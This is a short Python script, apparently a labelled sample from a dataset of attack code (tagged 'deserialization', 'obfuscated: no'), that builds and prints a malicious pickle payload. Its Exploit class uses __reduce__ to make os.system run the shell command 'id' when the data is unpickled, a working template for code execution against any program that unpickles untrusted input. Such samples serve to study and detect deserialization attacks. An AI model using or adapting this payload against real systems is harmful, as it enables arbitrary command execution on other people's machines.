# category: deserialization
# obfuscated: no
import pickle, os

class Exploit:
    def __reduce__(self):
        return (os.system, ("id",))

payload = pickle.dumps(Exploit())
print(payload)
